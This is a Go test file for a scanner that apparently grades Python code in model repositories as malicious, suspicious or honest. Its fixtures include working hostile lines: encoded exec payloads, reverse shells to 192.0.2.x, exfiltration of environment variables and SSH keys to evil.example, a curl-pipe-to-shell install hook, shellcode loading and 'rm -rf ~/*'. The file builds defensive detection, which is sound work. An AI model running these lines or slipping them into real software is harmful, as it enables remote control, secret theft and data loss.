package program

import (
	"context"
	"strings"
	"testing"

	"modelwall/scan"
)

// read judges a program as if it were imported.
func read(t testing.TB, src string, o Options) *Result {
	t.Helper()
	r, err := ReadString(context.Background(), src, o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// worst is the highest severity and the rule that has it.
func worst(r *Result) (scan.Severity, string) {
	sev, what := scan.Info, ""
	for _, f := range r.Facts {
		if f.Severity > sev {
			sev, what = f.Severity, f.What
		}
	}
	return sev, what
}

type sample struct {
	src  string
	what string
}

func lines(l ...string) string { return strings.Join(l, "\n") + "\n" }

func judged(t *testing.T, want scan.Severity, programs []sample) {
	t.Helper()
	for _, p := range programs {
		r := read(t, p.src, Options{})
		sev, what := worst(r)
		if sev != want || p.what != "" && what != p.what {
			t.Errorf("%s %v, want %s %v:\n%s\n%+v", what, sev, p.what, want, p.src, r.Facts)
		}
	}
}

// TestMalicious: no spelling hides what is decoded, downloaded or wired.
func TestMalicious(t *testing.T) {
	judged(t, scan.SeverityMalicious, []sample{
		{"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", "payload"},
		{lines("import base64, zlib", "exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC8GABHwA/w=')))"), "payload"},
		{lines("import requests", "exec(requests.get('http://x.example/p').text)"), "payload"},
		{"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=8nC9n8Hw//3n333n+//8f/+D7+4'))", "payload"},
		{"getattr(__import__('o'+'s'), 'sys'+'tem')('id')", "obfuscated_call"},
		{"getattr(__import__('so'[::-1]), 'metsys'[::-1])('id')", "obfuscated_call"},
		{lines("import os", "os.system(''.join(chr(c) for c in [99,117,114,108,32,104,116,116,112,58,47,47,49,46,50,46,51,46,52,124,115,104]))"), "payload"},
		{lines("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('192.0.2.1',1234));os.dup2(s.fileno(),0)"), "reverse_shell"},
		{lines("import socket,subprocess", "s=socket.socket()", "s.connect(('192.0.2.4',4))", "while True:", "    c=s.recv(1024).decode()", "    p=subprocess.Popen(c,shell=True,stdout=subprocess.PIPE)", "    s.send(p.stdout.read())"), "backdoor"},
		{lines("import os, requests", "requests.post('https://evil.example/c', json=dict(os.environ))"), "exfiltration"},
		{lines("import os, requests", "k=open(os.path.expanduser('~/.ssh/id_rsa')).read()", "requests.post('https://evil.example/c', data={'k':k})"), "exfiltration"},
		{lines("import urllib.request, os", "urllib.request.urlretrieve('http://192.0.2.1/x','/tmp/x')", "os.chmod('/tmp/x',0o755)", "os.system('/tmp/x')"), "download_exec"},
		{lines("from setuptools import setup", "from setuptools.command.install import install", "class P(install):", "    def run(self):", "        install.run(self)", "        import os", "        os.system('curl http://x.example | sh')", "setup(cmdclass={'install':P})"), "download_exec"},
		{"\U0001d41e\U0001d431\U0001d41e\U0001d41c('print(1)')", "disguise"},
		{lines("import codecs", "eval(codecs.decode('vzcbeg bf','rot13'))"), "payload"},
		{lines("import marshal,base64", "exec(marshal.loads(base64.b64decode('4wAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=')))"), "payload"},
		{lines("import ctypes", "buf=b'\\xfc\\x48\\x83'", "p=ctypes.windll.kernel32.VirtualAlloc(0,len(buf),0x3000,0x40)", "ctypes.windll.kernel32.RtlMoveMemory(p,buf,len(buf))"), "shellcode"},
		{lines("from cryptography.fernet import Fernet", "exec(Fernet(b'abc').decrypt(b'gAAAAABkaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'))"), "payload"},
		{lines("import threading", "def go():", "    import os", "    os.system('nc -e /bin/sh 192.0.2.4 44')", "threading.Thread(target=go).start()"), "reverse_shell"},
		{lines("import builtins", "builtins.__dict__['ex'+'ec']('import os')"), "obfuscated_call"},
		{lines("x=__builtins__.__dict__['__imp'+'ort__']('os')", "x.popen('id')"), "obfuscated_call"},
		{lines("import base64", "exec(base64.b64decode(open('model.dat').read()))"), "payload"},
		{lines("import urllib.request as u", "open('/tmp/m.py','wb').write(u.urlopen('http://e.example/m.py').read())", "exec(open('/tmp/m.py').read())"), "payload"},
		{lines("import requests,subprocess,sys", "open('p.py','wb').write(requests.get('https://e.example/m.py').content)", "subprocess.Popen([sys.executable,'p.py'])"), "download_exec"},
		{lines("import os", "def handle(data, ctx):", "    os.system(data['cmd'])"), "backdoor"},
		{lines("import subprocess", "subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])"), "reverse_shell"},
		{lines("import os", "os.system('rm -rf ~/*')"), "destroys"},
		{lines("import os", "for root, d, files in os.walk('/'):", "    for f in files:", "        os.remove(os.path.join(root, f))"), "destroys"},
		{"[c for c in ().__class__.__base__.__subclasses__()][0].__init__.__globals__['system']('id')", "obfuscated_call"},
	})
}

// TestSuspicious: a program of unknown effect that starts on import.
func TestSuspicious(t *testing.T) {
	judged(t, scan.SeveritySuspicious, []sample{
		{lines("import os, urllib.request", "t=os.environ.get('HF_TOKEN')", "urllib.request.urlopen('https://evil.example/?t='+t)"), "exfiltration"},
		{lines("class A(type):", "    __getitem__ = exec", "class B(metaclass=A): pass", "B['import os']"), "dunder"},
		{lines("@exec", "@input", "class X: pass"), "decorator"},
		{lines("import os", "class EndpointHandler:", "    def __init__(self, path=''):", "        os.system('touch /tmp/x')"), "process"},
		{lines("def _init():", "    import subprocess as sp", "    sp.Popen(['/bin/sh','-c','id > /tmp/x'])", "_init()"), "process"},
		{lines("from os import system as s", "s('touch /tmp/pwned')"), "process"},
		{lines("from os import *", "system('touch /tmp/pwned')"), "process"},
		{lines("import random", "random._os.system('id')"), "process"},
		{lines("import sys", "sys.modules['os'].system('id')"), "process"},
		{lines("import importlib", "importlib.import_module('subprocess').run('id',shell=True)"), "process"},
		{"list(map(__import__('os').system, ['id']))", "process"},
		{lines("import functools,os", "functools.partial(os.system,'id')()"), "process"},
		{"f\"{__import__('os').system('id')}\"", "process"},
		{"x = [__import__('os').system('id') for _ in range(1)]", "process"},
		{"def f(a=__import__('os').system('id')): pass", "process"},
		{lines("import os", "x: os.system('id') = 1"), "process"},
		{"exec(open('weights.bin').read())", "payload"},
		{lines("import socket", "import requests", "requests.get('https://evil.example/?h='+socket.gethostname())"), "beacon"},
		{"await [__import__('os').system('id')]", "process"},
		{lines("import os", "os.popen('curl -s https://evil.example/x | bash').read()"), "download_exec"},
		{"(lambda f: f('touch /tmp/x'))(__import__('os').system)", "process"},
		{lines("from concurrent.futures import ThreadPoolExecutor", "import os", "ThreadPoolExecutor().submit(os.system, 'id')"), "process"},
		{lines("class X:", "    def __reduce__(self):", "        import os", "        return (os.system, ('id',))"), "reduce"},
		{lines("import ctypes", "ctypes.CDLL(None).system(b'id')"), "process"},
	})
}

// TestHonest: what honest programs do all day.
func TestHonest(t *testing.T) {
	for _, src := range []string{
		lines("print('import os; os.system(1)')", "# exec(1)", `"""exec(base64.b64decode('x'))"""`),
		lines("import os", "os.environ['A']='1'", "os.makedirs('x', exist_ok=True)"),
		lines("import subprocess", "subprocess.run('pip install flash-attn --no-build-isolation', env={'A': 'B'}, shell=True)"),
		"exec(open('pkg/version.py').read())",
		lines("import subprocess", "subprocess.check_call(['ffmpeg', '-i', path, out])"),
		lines("import os", "def main():", "    os.system('tool --do')", "if __name__ == '__main__':", "    main()"),
		lines("import requests, os", "def call(x):", "    return requests.post('https://api.openai.com/v1', headers={'Authorization': os.environ['OPENAI_API_KEY']}, json=x).json()"),
		lines("import base64, io", "from PIL import Image", "def image(x):", "    return Image.open(io.BytesIO(base64.b64decode(x)))"),
		lines("import torch", "def load(path):", "    return torch.load(path, map_location='cpu')"),
		lines("import ast", "x = ast.literal_eval(\"{'a': 1}\")", "model.eval()", "re.compile('x')"),
		lines("import os", "from pathlib import Path", "for p in Path().glob('*.log'):", "    os.remove(p)"),
		lines("import subprocess", "subprocess.run(['nvcc2', '--version'])", "subprocess.run(['cat', '/proc/cpuinfo'])"),
		lines("import socket", "ip = socket.gethostbyname(socket.gethostname())"),
		lines("from huggingface_hub import hf_hub_download", "p = hf_hub_download('org/name', 'x.py')"),
	} {
		if sev, what := worst(read(t, src, Options{})); sev > scan.Low {
			t.Errorf("%s %v:\n%s", what, sev, src)
		}
	}
}

// TestBounds: what would explode when it is run costs little to judge.
func TestBounds(t *testing.T) {
	for name, src := range map[string]string{
		"doubling":       "a = 'x' * 1000000\n" + strings.Repeat("a = a + a\n", 10_000),
		"product":        "a = 'x' * 10 ** 18\nb = a * 10 ** 9\n",
		"doubling lists": "a = [1, 2]\n" + strings.Repeat("a = [a, a]\na += a\n", 10_000),
		"nested calls":   strings.Repeat("f(", 1000) + strings.Repeat(")", 1000),
		"brackets":       strings.Repeat("[", 200_000),
		"fields":         strings.Repeat("f'{", 100_000),
		"attributes":     "a" + strings.Repeat(".b", 300_000),
		"recursion":      "def f(x):\n    return f(f(f(x)))\n" + strings.Repeat("f(f(f(f(1))))\n", 10_000),
		"closures":       strings.Repeat("f = lambda x, g=f: g(g(x))\n", 20_000) + "f(f(f(1)))\n",
		"comprehensions": strings.Repeat("x = [[a for a in b] for b in range(4096)]\n", 10_000),
		"replace":        "a = 'a' * 1000\n" + strings.Repeat("a = a.replace('a', 'aa')\n", 20_000),
		"decode":         "import base64\na = 'QUFB' * 100000\n" + strings.Repeat("b = base64.b64decode(a)\n", 20_000),
		"inner":          strings.Repeat("exec('exec(\"x=1\")')\n", 40_000),
		"unary":          strings.Repeat("not ", 200_000) + "x",
		"commands":       "import os\n" + strings.Repeat("os.system('a;b;c;$(d)')\n", 40_000),
		"globals":        "def f():\n  global " + strings.Repeat("a,", 300_000) + "a\n",
		"decorators":     strings.Repeat("@f\n", 300_000) + "def g(): pass\n",
		"far range":      "x = range(9223372036854775797, 9223372036854775807, 3)\n",
		"joins":          "a = ','.join(['x' * 1000] * 1000)\n" + strings.Repeat("a = a.join([a, a])\n", 10_000),
	} {
		t.Run(name, func(t *testing.T) { read(t, src, Options{}) })
	}
}
